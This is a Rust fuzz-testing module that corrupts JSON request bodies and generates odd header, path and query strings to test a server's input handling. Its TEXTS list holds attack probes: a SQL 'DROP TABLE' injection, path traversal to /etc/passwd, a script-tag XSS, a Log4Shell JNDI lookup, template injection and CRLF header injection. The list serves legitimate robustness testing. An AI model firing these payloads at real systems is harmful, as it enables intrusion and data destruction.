//! Bodies that are broken in one place or two, and bodies that are none.

use serde_json::{Value, json};

use crate::fuzz_chance::Chance;
use crate::fuzz_values::World;

/// Texts that somebody once trusted.
const TEXTS: [&str; 22] = [
    "",
    " ",
    "\u{0}",
    "a\u{0}b",
    "\r\nSet-Cookie: a=b",
    "\u{202e}gnp.exe",
    "\u{1f512}\u{fe0f}",
    "e\u{301}",
    "\u{feff}x",
    "\u{ffff}",
    "'; DROP TABLE sessions; --",
    "%00",
    "../../etc/passwd",
    "<script>alert(1)</script>",
    "${jndi:ldap://example.com}",
    "{{7*7}}",
    "null",
    "0",
    "-1",
    "1e309",
    "http://127.0.0.1/",
    "\u{661}\u{662}\u{663}",
];
const LENGTHS: [usize; 9] = [1, 63, 64, 65, 255, 256, 257, 4097, 30_000];
/// Bodies that hold no message.
const NO_MESSAGES: [&[u8]; 14] = [
    b"",
    b" ",
    b"null",
    b"[]",
    b"{}",
    b"7",
    b"\"text\"",
    b"{",
    b"{\"a\":}",
    b"{'a':1}",
    b"\xff\xfe{\x00}\x00",
    b"\xef\xbb\xbf{}",
    b"a=b&c=d",
    b"<?xml version=\"1.0\"?><a/>",
];

impl World<'_> {
    /// A body made of one that fits.
    pub fn spoilt(&self, chance: &mut Chance, mut body: Value) -> Vec<u8> {
        if chance.one_in(12) {
            return chance.pick(&NO_MESSAGES).to_vec();
        }
        for _ in 0..=chance.below(2) {
            self.spoil(chance, &mut body);
        }
        let text = serde_json::to_vec(&body).unwrap();
        if chance.one_in(3) { spoil_text(chance, text) } else { text }
    }

    /// Changes one value somewhere inside.
    fn spoil(&self, chance: &mut Chance, value: &mut Value) {
        match value {
            Value::Object(members) if !members.is_empty() && !chance.one_in(20) => {
                let names: Vec<String> = members.keys().cloned().collect();
                let name = chance.pick(&names);
                match chance.below(8) {
                    0 => drop(members.remove(&name)),
                    1 => drop(members.insert(name.to_uppercase(), json!(1))),
                    _ => self.spoil(chance, &mut members[&name]),
                }
            }
            Value::Array(items) if !items.is_empty() && chance.one_in(2) => {
                let place = chance.below(items.len());
                self.spoil(chance, &mut items[place]);
            }
            other => *other = self.odd(chance, other),
        }
    }

    fn odd(&self, chance: &mut Chance, before: &Value) -> Value {
        let text = before.as_str().unwrap_or("x");
        match chance.below(13) {
            0 => Value::Null,
            1 => chance.one_in(2).into(),
            2 => chance.pick(&[
                json!(-1),
                json!(0),
                json!(i64::MIN),
                json!(u64::MAX),
                json!(1.5),
                json!(1e308),
            ]),
            3 => json!([before]),
            4 => json!({ "value": before }),
            5 => (0..chance.below(200)).fold(json!(1), |inner, _| json!([inner])),
            6 => "x".repeat(chance.pick(&LENGTHS)).into(),
            7 => "\u{e9}".repeat(chance.pick(&LENGTHS) / 2).into(),
            8 => text.to_uppercase().into(),
            9 => format!(" {text}\t").into(),
            10 => text.chars().skip(1).collect::<String>().into(),
            11 if !self.real.is_empty() => chance.pick(self.real).1.into(),
            _ => chance.pick(&TEXTS).into(),
        }
    }
}

/// What only a text can have: the same member twice, numbers that are none, half of a character.
fn spoil_text(chance: &mut Chance, mut text: Vec<u8>) -> Vec<u8> {
    let place = chance.below(text.len().max(1));
    match chance.below(9) {
        0 => text.truncate(place),
        1 => text.extend(b"x"),
        2 => text.insert(place, 0xff),
        3 => text.insert(place, 0),
        4 => text.extend(vec![b' '; 40_000]),
        5 => return replaced(&text, b":\"", b":\"\\ud800"),
        6 => return replaced(&text, b":", b":1e999,\"a\":"),
        7 => return twice(text),
        _ => return text.iter().flat_map(|byte| [*byte, 0]).collect(),
    }
    text
}

fn replaced(text: &[u8], what: &[u8], with: &[u8]) -> Vec<u8> {
    let place = text.windows(what.len()).position(|window| window == what);
    let Some(place) = place else { return text.to_vec() };
    [&text[..place], with, &text[place + what.len()..]].concat()
}

/// Every member twice.
fn twice(text: Vec<u8>) -> Vec<u8> {
    match text.strip_prefix(b"{").and_then(|rest| rest.strip_suffix(b"}")) {
        Some(members) => [b"{", members, b",", members, b"}"].concat(),
        None => text,
    }
}

/// A text for a header, a path or a query.
pub fn odd_text(chance: &mut Chance) -> String {
    match chance.below(3) {
        0 => "x".repeat(chance.pick(&LENGTHS) % 5000),
        _ => chance.pick(&TEXTS).to_owned(),
    }
}
